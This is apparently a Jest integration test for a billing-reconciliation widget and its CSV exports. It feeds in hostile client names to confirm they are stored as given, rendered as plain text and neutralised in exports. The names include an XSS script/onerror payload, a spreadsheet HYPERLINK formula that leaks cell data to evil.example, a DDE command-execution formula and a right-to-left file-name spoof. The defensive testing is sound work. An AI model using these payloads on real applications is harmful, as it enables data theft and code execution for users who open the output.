// Hostile upstream data: client names with HTML and script, spreadsheet formula prefixes, control
// characters, a very long string, emoji and right-to-left text come from the simulators (their
// dataset, before a real sync-all), are stored exactly as given, are rendered as text by the widgets
// (real Chromium, the built bundle served by the real API, a PanelOne-like page on another origin),
// and are neutralised in the CSV exports.
// Needs the widget bundle: `npx vite build --config plugin-ui/vite.config.ts` (npm test builds it).
import { jest } from '@jest/globals';
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type pg from 'pg';
import type { Browser } from 'playwright-core';
import { freePort } from '../../src/database/embedded.js';
import { startTestApi, uniqueTenant, type TestApi } from '../support/app.js';
import { launchBrowser, mountWidget, newPage } from '../ui/browser.js';
import { bearer, configureTenant, ownQueue, pool, runTool, startUpstreams, startWorker, summary, until, type Upstreams } from './support.js';
import { parseCsv } from '../support/csv.js';

jest.setTimeout(600_000);

export const HOSTILE = [
  `<img src=x onerror="window.__pwned='img'">Acme <script>window.__pwned='script'</script> & Co`,
  `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
  '+SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3 Holdings',
  '@SUM(A1:A9) Partners',
  'Tab\there\u0007bell\u001b[31mred\u007f end',
  `Long ${'Ünïcødé-'.repeat(300)}end`,
  'Rocket 🚀 Labs 👩‍💻🏳️‍🌈',
  'شركة المثال \u202Egnp.exe\u202C للتجارة',
  '"quoted", comma; semicolon\'s',
];

const QUEUE = ownQueue('hostile');
let api: TestApi;
let db: pg.Pool;
let up: Upstreams;
let browser: Browser | undefined;
let page: Server;
let pageOrigin: string;
const tenant = uniqueTenant('hostile');

beforeAll(async () => {
  const port = await freePort();
  pageOrigin = `http://127.0.0.1:${port}`;
  api = await startTestApi({ env: { PANELONE_ORIGINS: pageOrigin, ...QUEUE } });
  db = pool();
  up = await startUpstreams({ seed: 41, clients: 24, devices: 300 }, {}, (d) => {
    if (d.organizations.length < HOSTILE.length) throw new Error('the world needs more PanelOne organizations');
    HOSTILE.forEach((name, i) => { d.organizations[i].name = name; });
    HOSTILE.forEach((name, i) => { if (d.companies[i]) d.companies[i].name = name; });
  });
  await configureTenant(api, tenant, up);
  const worker = await startWorker(QUEUE);
  try {
    const run = await runTool(api, tenant, 'sync-all');
    expect(run.error).toBeNull();
  } finally {
    await worker.close();
  }
  // A PanelOne-like host page on another origin; the bundle and the data come from the real API.
  await api.app.listen(0, '127.0.0.1');
  const apiUrl = await api.app.getUrl();
  page = createServer((_req, res) => {
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
    res.end(`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>host</title>
      <script type="module" src="${apiUrl.replace('[::1]', '127.0.0.1')}/plugin/billingone-reconcile.js"></script></head><body><main></main></body></html>`);
  });
  await new Promise<void>((r) => page.listen(port, '127.0.0.1', r));
});
afterAll(async () => {
  await browser?.close();
  if (page) await new Promise((r) => page.close(r));
  await api?.close();
  await db?.end();
  await up?.close();
});

it('stores every hostile name exactly as given, and the API returns it unchanged', async () => {
  const { rows } = await db.query(`SELECT name FROM panelone_organization WHERE tenant_id = $1`, [tenant]);
  const names = rows.map((r: { name: string }) => r.name);
  for (const name of HOSTILE) expect(names).toContainEqual(name);
  const companies = await db.query(`SELECT name FROM pax8_company WHERE tenant_id = $1 AND name = ANY($2)`, [tenant, HOSTILE]);
  expect(companies.rowCount).toBeGreaterThan(0);
  const viewer = bearer(await api.token(tenant, 'viewer'));
  const list = await api.http.get('/api/v1/reconciliation/clients').query({ limit: 100 }).set(viewer).expect(200);
  const listed = list.body.items.map((c: { name: string }) => c.name);
  for (const name of HOSTILE) expect(listed).toContainEqual(name);
  expect(list.headers['content-type']).toMatch(/^application\/json/);
});


it('neutralises formula prefixes in both CSV exports and keeps every name readable', async () => {
  const tech = bearer(await api.token(tenant, 'technician'));
  const all = await api.http.get('/api/v1/reconciliation/export.csv').set(tech).buffer(true).parse((res, cb) => { let s = ''; res.on('data', (c: Buffer) => (s += c.toString('utf8'))); res.on('end', () => cb(null, s)); }).expect(200);
  const cells = parseCsv(String(all.body).replace(/^\uFEFF/, '')).flat();
  let csvCells = cells.length;
  for (const name of HOSTILE) {
    const expected = /^[=+\-@\t\r]/.test(name) ? `'${name}` : name;
    expect(cells).toContain(expected);
  }
  const dangerous = (c: string) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c);
  expect(cells.filter(dangerous)).toEqual([]);

  const { rows } = await db.query(`SELECT id, name FROM panelone_organization WHERE tenant_id = $1 AND name LIKE '=%'`, [tenant]);
  const one = await api.http.get(`/api/v1/reconciliation/clients/${rows[0].id}/export.csv`).set(tech).buffer(true).parse((res, cb) => { let s = ''; res.on('data', (c: Buffer) => (s += c.toString('utf8'))); res.on('end', () => cb(null, s)); }).expect(200);
  const clientCells = parseCsv(String(one.body).replace(/^\uFEFF/, '')).flat();
  csvCells += clientCells.length;
  expect(clientCells.filter(dangerous)).toEqual([]);
  expect(clientCells.some((c) => c.includes('HYPERLINK'))).toBe(true);
  summary('hostile-csv', { hostileNames: HOSTILE.length, csvCellsChecked: csvCells });
});

it('the widgets render hostile names as text: nothing injected, nothing run, every name shown literally', async () => {
  expect(existsSync('dist/plugin/billingone-reconcile.js')).toBe(true);
  browser = await launchBrowser();
  const apiUrl = (await api.app.getUrl()).replace('[::1]', '127.0.0.1');
  const token = await api.token(tenant, 'admin');
  const { rows } = await db.query(`SELECT id, name FROM panelone_organization WHERE tenant_id = $1 AND name = ANY($2) ORDER BY id`, [tenant, HOSTILE]);
  const checks: Array<{ tag: string; attrs: Record<string, string>; expect: string[] }> = [
    { tag: 'billingone-reconciliation', attrs: {}, expect: HOSTILE },
    ...rows.map((r: { id: string; name: string }) => ({ tag: 'billingone-client-panel', attrs: { 'client-id': r.id }, expect: [r.name] })),
    { tag: 'billingone-settings', attrs: {}, expect: [] },
  ];
  for (const check of checks) {
    const { page: tab, context, errors } = await newPage(browser);
    await mountWidget(tab, pageOrigin, check.tag, { 'api-base': apiUrl, 'context-token': token, ...check.attrs }, '/');
    const text = () => tab.evaluate((tag) => {
      const parts: string[] = [];
      const walk = (node: Node) => {
        if (node.nodeType === Node.TEXT_NODE) parts.push(node.textContent ?? '');
        const el = node as Element & { shadowRoot?: ShadowRoot | null };
        if (el.shadowRoot) el.shadowRoot.childNodes.forEach(walk);
        node.childNodes.forEach(walk);
      };
      walk(document.querySelector(tag)!);
      return parts.join('\u0000');
    }, check.tag);
    // Wait until the data is shown (the first hostile name, or the widget's own content).
    await until(`${check.tag} to show its data`, async () => {
      const t = await text();
      return check.expect.length ? check.expect.every((n) => t.includes(n)) : t.length > 50;
    }, 60_000, 200).catch(async (err) => { throw new Error(`${String(err)}\nshown: ${(await text()).slice(0, 2000)}`); });
    const injected = await tab.evaluate(() => {
      const found: string[] = [];
      const scan = (root: Document | ShadowRoot) => {
        root.querySelectorAll('img[src="x"], [onerror], main script, b1r-none').forEach((e) => found.push(e.outerHTML.slice(0, 80)));
        root.querySelectorAll('*').forEach((e) => { if (e.shadowRoot) scan(e.shadowRoot); });
      };
      scan(document);
      return { found, pwned: (window as unknown as { __pwned?: string }).__pwned ?? null };
    });
    expect(injected).toEqual({ found: [], pwned: null });
    expect(errors).toEqual([]);
    await context.close();
  }
  summary('hostile-widgets', { widgetsChecked: checks.length, namesShown: HOSTILE.length });
});
